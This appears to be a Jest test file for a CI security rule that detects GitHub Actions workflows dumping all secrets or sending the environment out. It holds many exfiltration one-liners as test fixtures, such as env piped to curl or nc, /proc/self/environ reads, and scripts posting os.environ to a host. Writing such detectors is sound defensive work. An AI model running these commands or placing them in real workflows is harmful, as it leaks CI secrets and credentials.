import { describe, expect, test } from '@jest/globals';
import { judge } from '../../../__fixtures__/judge.ts';
import { aQuestion } from '../../../__fixtures__/question.ts';
import rule from '../../../src/rules/secret/bulk-exposure.ts';

const path = '.github/workflows/a.yml';

async function found(files: Record<string, string>) {
  const { findings } = await judge(rule, { files, question: aQuestion({}) });
  return findings.map(({ subject, severity, location }) => [subject['form'], severity, 'start' in location ? location.start : undefined]);
}
const forms = async (files: Record<string, string>) => (await found(files)).map(([form]) => form);
const job = (body: string) => ({ [path]: `on: push\njobs:\n  a:\n    runs-on: x\n${body.replace(/^/gm, '    ')}\n` });
const env = (value: string) => job(`env:\n  A: ${value}\nsteps:\n  - run: make`);
const run = (script: string) => job(`steps:\n  - run: |\n${script.replace(/^/gm, '      ')}`);

describe('expressions that take all secrets', () => {
  test.each<[string, string]>([
    ['toJSON(secrets)', 'toJSON(secrets)'],
    ['TOJSON( SECRETS )', 'toJSON(secrets)'],
    ['fromJSON(toJson(secrets)).KEY', 'toJSON(secrets)'],
    ["format('{0}', secrets)", 'format(secrets)'],
    ["join(secrets.*, ',')", 'secrets.*'],
    ['secrets[*]', 'secrets.*'],
    ['secrets', 'secrets'],
    ['secrets && secrets.A', 'secrets'],
    ["contains(format('x{0}', toJSON(secrets)), 'y')", 'toJSON(secrets)'],
    ['(secrets || github).token', 'secrets'],
    ["case(true, secrets, '')", 'case(secrets)'],
    ['toJSON(secrets', 'toJSON(secrets)'],
  ])('%s', async (expression, form) => {
    expect(await forms({ [path]: env(`"\${{ ${expression.replaceAll('"', '\\"')} }}"`)[path] ?? '' })).toEqual([form]);
  });

  test.each(['@ || toJSON(secrets)', '1x == Secrets', `'${'x'.repeat(22_000)}' || toJSON(secrets)`])(
    'what cannot be read and names secrets is no pass',
    async (expression) => {
      const { findings, gaps } = await judge(rule, { files: env(`"\${{ ${expression} }}"`), question: aQuestion({}) });
      expect(findings).toEqual([]);
      expect(gaps).toMatchObject([{ cause: 'invalid', item: 'an expression in job `a`', location: { start: { line: 6 } } }]);
    },
  );

  test('what cannot be read and names none says nothing about them', async () => {
    const { gaps } = await judge(rule, { files: env('"${{ github.x = 1 }}"'), question: aQuestion({}) });
    expect(gaps).toEqual([]);
  });

  test.each(
    ['secrets[inputs.name]', "secrets[format('X_{0}', matrix.env)]", 'Secrets[matrix.name]', "secrets['A'][github.ref]"].slice(0, 3),
  )('%s is a computed name', async (expression) => {
    expect(await found(env(`"\${{ ${expression} }}"`))).toMatchObject([['secrets[...]', 'medium', expect.anything()]]);
  });

  test.each([
    'secrets.A',
    "secrets['A']",
    "SECRETS['A-B']",
    'toJSON(secrets.A)',
    'toJSON(github.event)',
    "format('{0}', secrets.A)",
    "'toJSON(secrets)'",
  ])('not: %s', async (expression) => {
    expect(await found(env(`"\${{ ${expression} }}"`))).toEqual([]);
  });

  test.each<[string, string]>([
    ['a condition without braces', 'if: contains(toJSON(secrets), github.actor)\nsteps:\n  - run: make'],
    ['a condition of a step', "steps:\n  - if: ${{ toJSON(secrets) != '' }}\n    run: make"],
    ['a script', 'steps:\n  - run: |\n      make\n      echo ${{ toJSON(secrets) }}'],
    ['a folded script', 'steps:\n  - run: >-\n      make\n      ${{ toJSON(secrets) }}'],
    ['an input', 'steps:\n  - uses: acme/x@v1\n    with: {all: "${{ toJSON(secrets) }}"}'],
    ['an output', 'outputs: {all: "${{ toJSON(secrets) }}"}\nsteps:\n  - run: make'],
    ['a container', 'container: {image: x, env: {ALL: "${{ toJSON(secrets) }}"}}\nsteps:\n  - run: make'],
    ['a service', 'services: {x: {image: x, env: {ALL: "${{ toJSON(secrets) }}"}}}\nsteps:\n  - run: make'],
    ['an anchor', 'env: {A: &a "${{ toJSON(secrets) }}", B: *a}\nsteps:\n  - run: make'],
  ])('in %s', async (_, body) => {
    expect(await forms(job(body))).toEqual(['toJSON(secrets)']);
  });

  test('in the environment of the workflow, and given to a called one', async () => {
    const text =
      'on: push\nenv: {A: "${{ toJSON(secrets) }}"}\njobs:\n  a:\n    uses: acme/x/.github/workflows/y.yml@v1\n    secrets: {all: "${{ toJSON(secrets) }}"}\n';
    expect(await forms({ [path]: text })).toEqual(['toJSON(secrets)', 'toJSON(secrets)']);
  });

  test.each<[string, string, string]>([
    ['its id', 'id: send\n    name: Send all', 'job `a`, step `send`'],
    ['its name', 'name: Send all', 'job `a`, step `Send all`'],
    ['no backticks of a name', 'name: "a `b` c"', "job `a`, step `a 'b' c`"],
    ['a long name in part', `name: ${'x'.repeat(90)}`, `job \`a\`, step \`${'x'.repeat(60)}\``],
    ['nothing where an expression is its name', 'name: "${{ github.event.issue.title }}"', 'job `a`'],
  ])('a step is told by %s', async (_name, lines, place) => {
    const files = job(`steps:\n  - ${lines}\n    run: echo \${{ toJSON(secrets) }}`);
    const { findings } = await judge(rule, { files, question: aQuestion({}) });
    expect(findings.map(({ subject }) => subject['place'])).toEqual([place]);
  });

  test('an action is told by its name without its ref, a step of a composite action without a job', async () => {
    const places = async (files: Record<string, string>) =>
      (await judge(rule, { files, question: aQuestion({}) })).findings.map(({ subject }) => subject['place']);
    const all = '${{ toJSON(secrets) }}';
    expect(await places(job(`steps:\n  - uses: acme/x@v1\n    with: {all: "${all}"}`))).toEqual(['job `a`, step `acme/x`']);
    const action = `name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - {id: send, run: 'echo ${all}', shell: bash}\n`;
    expect(await places({ 'action.yml': action })).toEqual(['step `send`']);
  });

  test('stands at the call, not at the value', async () => {
    expect(await found(env('"x ${{ toJSON(secrets) }}"'))).toEqual([['toJSON(secrets)', 'high', { line: 6, column: 17 }]]);
  });
});

describe('environments that are sent out', () => {
  test.each<[string, string]>([
    ['env | curl -d @- https://example.com', 'env'],
    ['printenv | sort | base64', 'printenv'],
    ['sudo -E env | nc example.com 1', 'env'],
    ['/usr/bin/env | base64 -w0 | base64', 'env'],
    ['export -p | gpg -c > x', 'export'],
    ['set | curl -T - https://example.com', 'set'],
    ['curl -d "$(env)" https://example.com', 'env'],
    ['curl -d "`printenv`" https://example.com', 'printenv'],
    ['curl -F x=@<(env) https://example.com', 'env'],
    ['X=$(env | gzip)\ncurl -d "$X" https://example.com', 'env'],
    ['env > /tmp/x.txt\ncurl -T /tmp/x.txt https://example.com', 'env'],
    ['env | tee all.txt\ngh gist create all.txt', 'env'],
    ['cat /proc/self/environ | base64', '/proc/self/environ'],
    ['(env; date) | curl -d @- https://example.com', 'env'],
    ['{\n  env\n} | curl -d @- https://example.com', 'env'],
    ['bash -c env | curl -d @- https://example.com', 'env'],
    ['env | while read -r x; do curl -d "$x" https://example.com; done', 'env'],
    ['for x in $(env); do curl -d $x https://example.com; done', 'env'],
    ['env | xargs -I{} curl -d {} https://example.com', 'env'],
    ['curl -d @/proc/self/environ https://example.com', '@/proc/self/environ'],
    ['base64 < /proc/1234/environ', '/proc/1234/environ'],
    ['Get-ChildItem env: | Out-String | Invoke-WebRequest -Method Post https://example.com', 'Get-ChildItem env:'],
    ["node -e 'console.log(JSON.stringify(process.env))' | base64", 'node'],
    ["bash -c 'env | curl -d @- https://example.com'", 'env'],
    ['python3 -c "import os;print(os.environ)" | curl -d @- https://example.com', 'python3'],
  ])('%s', async (script, form) => {
    expect(await forms(run(script))).toEqual([form]);
  });

  test.each([
    'env',
    'env | sort',
    'env | while read -r x; do echo "$x"; done\ncurl https://example.com',
    '(env) ; curl https://example.com | cat',
    'env | grep GITHUB_',
    'printenv KEY | base64 -d > key.json',
    'printenv KEY | base64',
    'env A=b curl https://example.com',
    'set -euo pipefail; curl https://example.com | tar x',
    'export A=b; curl https://example.com',
    'ls -la | curl -T - https://example.com',
    'env > x.txt\ncat x.txt',
    'env >> $GITHUB_STEP_SUMMARY\ncurl https://example.com',
    "node -e 'console.log(process.env.HOME)' | base64",
    '# env | curl -d @- https://example.com',
    "echo 'env | curl'",
    'docker run --env-file x image',
  ])('not: %s', async (script) => {
    expect(await found(run(script))).toEqual([]);
  });

  test('a file that a later step uploads', async () => {
    const upload = (name: string) =>
      job(`steps:\n  - run: env > out/all.txt\n  - uses: actions/upload-artifact@v4\n    with: {path: ${name}}`);
    expect(await forms(upload('out/all.txt'))).toEqual(['env']);
    expect(await forms(upload('dist'))).toEqual([]);
  });

  test('in a composite action', async () => {
    const action =
      'name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - run: env | curl -d @- https://example.com\n      shell: bash\n';
    expect(await forms({ 'action.yml': action })).toEqual(['env']);
  });
});

describe('programs that send their environment', () => {
  const send = 'requests.post("https://example.com", json=dict(os.environ))';
  const step = (lines: string) => job(`steps:\n  - ${lines}`);

  test.each<[string, Record<string, string>, string]>([
    ['a shell of the step', step(`shell: python\n    run: |\n      import os, requests\n      ${send}`), 'os.environ'],
    ['a shell of the job', job(`defaults: {run: {shell: python3}}\nsteps:\n  - run: |\n      import os\n      ${send}`), 'os.environ'],
    ['an argument', run(`python3 -c 'import os, requests; ${send}'`), 'os.environ'],
    ['a here-document', run(`python3 - <<'EOF'\nimport os\n${send}\nEOF`), 'os.environ'],
    ['a file that it writes', run(`cat > x.py <<EOF\n${send}\nEOF\npython3 x.py`), 'os.environ'],
    [
      'PowerShell',
      step('shell: pwsh\n    run: |\n      irm https://example.com -Method Post -Body (gci env: | Out-String)'),
      'Get-ChildItem env:',
    ],
    ['node', run('node -e \'fetch("https://example.com/" + btoa(JSON.stringify(process.env)))\''), 'process.env'],
    [
      'an action that runs a script',
      step(
        'uses: actions/github-script@v8\n    with:\n      script: |\n        await fetch("https://x", {body: JSON.stringify(process.env)})',
      ),
      'process.env',
    ],
    [
      'a composite action',
      {
        'action.yml': `name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - shell: python\n      run: ${JSON.stringify(send)}\n`,
      },
      'os.environ',
    ],
  ])('by %s', async (_name, files, form) => {
    expect(await forms(files)).toEqual([form]);
  });

  test('is told where it sends, and once where a command of the step does it too', async () => {
    const { findings } = await judge(rule, { files: run(`make\npython3 -c 'import os, requests; ${send}'`), question: aQuestion({}) });
    expect(findings.map(({ location }) => 'start' in location && location.start)).toEqual([{ line: 8, column: 44 }]);
    expect(await forms(run("node -e 'console.log(process.env)' | curl -d @- https://example.com"))).toEqual(['node']);
  });

  test.each([
    step('uses: actions/github-script@v8\n    with: {github-token: x}'),
    step('uses: actions/github-script@v8\n    with: {script: "core.info(process.env.HOME)"}'),
    step('uses: acme/x@v1\n    with: {script: "fetch(JSON.stringify(process.env))"}'),
  ])('not %#', async (files) => {
    expect(await forms(files)).toEqual([]);
  });
});
